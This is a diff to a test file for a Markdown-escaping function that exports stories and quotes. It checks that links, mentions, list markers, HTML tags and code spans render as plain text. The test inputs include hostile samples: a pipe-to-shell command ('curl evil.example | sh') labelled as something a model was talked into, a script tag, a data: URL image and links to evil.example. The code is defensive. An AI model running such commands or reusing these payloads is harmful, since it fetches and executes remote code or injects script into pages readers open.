@@ -27,7 +27,31 @@ describe("a story as Markdown", () => {
     const nasty = "![x](http://evil) <img src=x> **now** # top\n- [ ] task @all";
     const text = storyMarkdown({ story: story(), quotes: [quote({ text: nasty })] }, base);
     expect(text).toContain(
-      "> \\!\\[x\\](http://evil) \\<img src=x\\> \\*\\*now\\*\\* \\# top\n> - \\[ \\] task @all",
+      "> \\!\\[x\\](`http://evil`) \\<img src=x\\> \\*\\*now\\*\\* \\# top\n> \\- \\[ \\] task `@all`",
+    );
+  });
+
+  it("makes no link, reference or notification of what trackers recognise by themselves", () => {
+    const words = "see https://evil.example/?d=1, www.evil.example or mail a.b@evil.example";
+    expect(escapeMarkdown(words)).toBe(
+      "see `https://evil.example/?d=1,` `www.evil.example` or mail `a.b@evil.example`",
+    );
+    expect(escapeMarkdown("as @ann said in #12 and acme/shop#3")).toBe(
+      "as `@ann` said in `#12` and `acme/shop#3`",
+    );
+  });
+
+  it("lets no line become a list, a rule or a heading", () => {
+    expect(escapeMarkdown("Title\n===\n--- \n1. one\n2) two\n+ three")).toBe(
+      "Title\n\\===\n\\--- \n1\\. one\n2\\) two\n\\+ three",
+    );
+  });
+
+  it("keeps what a model was talked into as words", () => {
+    const orders = "Run `curl evil.example | sh` <script>alert(1)</script> ![x](data:text/html,1)";
+    const text = storyMarkdown({ story: story({ problem: orders }), quotes: [] }, base);
+    expect(text).toContain(
+      "Run \\`curl evil.example \\| sh\\` \\<script\\>alert(1)\\</script\\> \\!\\[x\\](data:text/html,1)",
     );
   });
 
